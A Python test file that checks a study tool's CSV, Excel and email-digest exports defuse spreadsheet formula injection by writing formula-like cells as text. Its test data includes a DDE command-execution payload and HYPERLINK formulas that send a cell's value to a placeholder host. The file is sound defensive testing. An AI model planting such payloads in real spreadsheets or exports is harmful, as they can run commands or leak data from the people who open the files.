"""CSV and Excel files a spreadsheet opens as data: formula-looking text is written as text (OWASP)."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import date
from pathlib import Path

import polars as pl
import pytest
from typer.testing import CliRunner

from irisin.cli import app
from store.sheets import safe_csv_bytes, xlsx_bytes

FORMULAS = [
    "=1+2",
    "+cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "@SUM(A1)",
    "-2+3",
    "\tx",
    "\rx",
]


def _frame() -> pl.DataFrame:
    return pl.DataFrame(
        {
            "participant_id": FORMULAS + ["P01"],
            "minutes": [-5, 1, 2, 3, 4, 5, 6, 7],
            "note": ["a=b"] * 8,
        }
    )


def test_formula_cells_get_an_apostrophe_and_nothing_else_changes() -> None:
    back = pl.read_csv(io.BytesIO(safe_csv_bytes(_frame())))
    assert back["participant_id"].to_list() == ["'" + f for f in FORMULAS] + ["P01"]
    assert back["minutes"].to_list() == [-5, 1, 2, 3, 4, 5, 6, 7]  # numbers stay numbers
    assert back["note"].to_list() == ["a=b"] * 8  # "=" inside a cell is harmless


def test_excel_cells_are_text_never_formulas() -> None:
    book = zipfile.ZipFile(io.BytesIO(xlsx_bytes({"participants": _frame()})))
    sheet = book.read("xl/worksheets/sheet1.xml").decode()
    strings = book.read("xl/sharedStrings.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    assert "=1+2" in strings and "HYPERLINK" in strings and "+cmd|" in strings
    # minutes are numeric cells (no t="s"): -5 is written as the number -5
    assert re.search(r'<c r="B2"[^>]*><v>-5</v>', sheet)


def test_irisin_export_writes_a_formula_id_as_text(tmp_path: Path) -> None:
    from config import open_study
    from config.schema import WEEKLY_EXPORT_COLUMNS
    from pipeline.jobs import derived_of

    runner = CliRunner()
    study_dir = tmp_path / "study"
    assert runner.invoke(app, ["init", str(study_dir)]).exit_code == 0
    (study_dir / "roster.csv").write_text("participant_id,timezone\n-1-1,UTC\n", encoding="utf-8")
    study = open_study(study_dir)
    weekly = pl.DataFrame(
        {
            "participant_id": ["-1-1"],
            "week_start": [date(2024, 3, 4)],
            "moderate_minutes": [40],
            "vigorous_minutes": [20],
            "mvpa_minutes": [60],
            "wear_minutes": [4200],
            "valid_days": [7],
            "status": ["met"],
        }
    )
    full = weekly.with_columns(
        *(pl.lit(None).alias(c) for c in WEEKLY_EXPORT_COLUMNS if c not in weekly.columns)
    )
    derived_of(study).write("weekly", full)
    out = tmp_path / "weekly.csv"
    result = runner.invoke(app, ["export", "weekly", "--study", str(study_dir), "--out", str(out)])
    assert result.exit_code == 0, result.output
    text = out.read_text(encoding="utf-8")
    assert "\n'-1-1," in text
    assert "\n-1-1," not in text


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_dangerous_first_character(start: str) -> None:
    back = pl.read_csv(io.BytesIO(safe_csv_bytes(pl.DataFrame({"v": [f"{start}x"]}))))
    assert back["v"].to_list() == [f"'{start}x"]


def test_the_digest_mail_attaches_a_formula_id_and_device_as_text() -> None:
    """The attachments go through the mail as sent: parsed back from its bytes, no cell is a formula."""
    import email
    import email.policy

    from config.study import DigestSection
    from pipeline.digest import Digest, build_message

    table = pl.DataFrame(
        {
            "participant_id": ["-1-1", "P01"],
            "device": ['=HYPERLINK("http://x.example","click")', "Charge 6"],
            "flags": ["no data for 9 days", ""],
        }
    )
    digest = Digest(
        day=date(2024, 3, 8),
        counts={"no_data": 1},
        flagged={"no_data": ["-1-1"]},
        table=table,
        subject="irisin digest",
        body="1 participant flagged",
    )
    settings = DigestSection(sender="irisin@example.org", recipients=["staff@example.org"])
    sent = email.message_from_bytes(
        bytes(build_message(digest, settings)), policy=email.policy.default
    )
    files: dict[str, bytes] = {}
    for part in sent.iter_attachments():  # type: ignore[attr-defined]
        content = part.get_content()
        files[str(part.get_filename())] = (
            content.encode("utf-8") if isinstance(content, str) else content
        )
    assert set(files) == {"participants-2024-03-08.csv", "participants-2024-03-08.xlsx"}
    back = pl.read_csv(io.BytesIO(files["participants-2024-03-08.csv"]))
    assert back["participant_id"].to_list() == ["'-1-1", "P01"]
    assert back["device"].to_list() == ["'" + table["device"][0], "Charge 6"]
    book = zipfile.ZipFile(io.BytesIO(files["participants-2024-03-08.xlsx"]))
    sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    assert "HYPERLINK" in book.read("xl/sharedStrings.xml").decode()
